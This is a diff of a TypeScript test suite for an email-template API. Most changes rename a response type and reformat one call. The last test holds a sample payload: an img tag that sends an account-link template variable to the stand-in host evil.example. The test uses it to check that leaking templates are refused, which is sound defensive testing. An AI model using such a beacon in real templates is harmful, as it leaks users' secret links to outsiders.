@@ -4,7 +4,7 @@ import { aPerson, aSessionCookie } from '../../../../tests/kit/builders.ts'
 import { createTestDatabase } from '../../../../tests/kit/database.ts'
 import { createTestApi, createTestServices } from '../../../../tests/kit/services.ts'
 import { aTemplate, aTemplateInput } from '../../../../tests/kit/templates.ts'
-import type { EmailTemplate, TemplateAnswer, TemplateList } from '../contract/templates.ts'
+import type { EmailTemplate, TemplateList, TemplateResponse } from '../contract/templates.ts'
 import { emailTemplates } from '../tables.ts'
 
 const database = await createTestDatabase()
@@ -38,7 +38,7 @@ describe('GET /email/templates/list', () => {
   test('returns a plain array, newest first, with everything an editor needs', async () => {
     expect(await list()).toEqual([])
     const first = await aTemplate(db)
-    const { body } = await call<TemplateAnswer>('/create', aTemplateInput({ templateType: 'custom' }))
+    const { body } = await call<TemplateResponse>('/create', aTemplateInput({ templateType: 'custom' }))
     const templates = await list()
     expect(templates.map(({ id }) => id)).toEqual([body.template.id, first.id])
     expect(templates[0]).toEqual({
@@ -63,7 +63,7 @@ describe('POST /email/templates/create', () => {
       templateName: ' Ours ',
       metadata: { season: 'rainy' },
     })
-    const { status, body } = await call<TemplateAnswer>('/create', input)
+    const { status, body } = await call<TemplateResponse>('/create', input)
     expect(status).toBe(200)
     expect(body.template).toMatchObject({ ...input, templateName: 'Ours', isActive: true })
   })
@@ -132,7 +132,7 @@ describe('POST /email/templates/create', () => {
   test('makes the previously active template of the same type inactive', async () => {
     const former = await aTemplate(db, { isActive: true })
     const other = await aTemplate(db, { templateType: 'invitation', isActive: true })
-    const { body } = await call<TemplateAnswer>('/create', aTemplateInput())
+    const { body } = await call<TemplateResponse>('/create', aTemplateInput())
     expect([await isActive(former.id), await isActive(other.id), await isActive(body.template.id)]).toEqual([
       false,
       true,
@@ -151,7 +151,11 @@ describe('POST /email/templates/create', () => {
 describe('POST /email/templates/update', () => {
   test('changes the given fields and raises the version', async () => {
     const { id } = await aTemplate(db)
-    const { body } = await call<TemplateAnswer>('/update', { id, subjectTemplate: 'Welcome', isActive: true })
+    const { body } = await call<TemplateResponse>('/update', {
+      id,
+      subjectTemplate: 'Welcome',
+      isActive: true,
+    })
     expect(body.template).toMatchObject({ id, subjectTemplate: 'Welcome', isActive: true, version: 2 })
     expect(body.template.htmlTemplate).toBe(aTemplateInput().htmlTemplate)
   })
@@ -246,7 +250,7 @@ describe('An organizer editing e-mail templates', () => {
 
 test('A template that would leak a secret link is refused at its field', async () => {
   const templateType = 'account_link'
-  const htmlTemplate = '<img src="https://evil.example/?{{ accountLink }}">'
+  const htmlTemplate = '<img src="https://evil.example/?{{ accountLinkTemplate }}">'
   const leaking = aTemplateInput({ templateType, htmlTemplate, subjectTemplate: 'x', textTemplate: 'x' })
   expect(await call('/create', leaking)).toMatchObject({
     status: 400,
